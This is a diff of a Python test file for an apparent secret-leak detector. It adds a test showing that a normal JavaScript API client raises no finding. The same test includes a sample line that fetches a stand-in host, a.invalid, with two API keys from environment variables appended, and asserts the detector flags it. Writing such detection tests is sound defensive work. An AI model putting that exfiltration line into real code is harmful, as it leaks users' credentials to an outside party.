@@ -151,3 +151,20 @@ def test_a_socket_that_may_be_connected_elsewhere_sends(more: str) -> None:
     for here in ("", "socket.connect(port, '127.0.0.1');"):
         source = f"{CONNECTED}{here}{more}socket.write(all);"
         assert worst(findings_of(CHECK, START + source), rule) == Severity.CRITICAL
+
+
+def test_the_keys_of_a_client_that_makes_addresses_are_not_what_is_sent() -> None:
+    """Either of two variables holds the key of a service; what it is put into is not known."""
+    source = """
+    const read = (name) => process.env[name]?.trim();
+    class Client {
+      constructor(key) { this.key = key || read("ONE_API_KEY") || read("TWO_API_KEY"); }
+      request(path) { const u = new URL(path, this.base); u.searchParams.set("k", this.key);
+        return this.call(u.toString(), {}); }
+      call(address, init) { return fetch(address, init); }
+    }
+    new Client().request(path);
+    """
+    assert findings_of(CHECK, source) == []
+    sent = "fetch(`https://a.invalid/?${process.env.ONE_API_KEY}${process.env.TWO_API_KEY}`)"
+    assert len(findings_of(CHECK, sent)) == 1
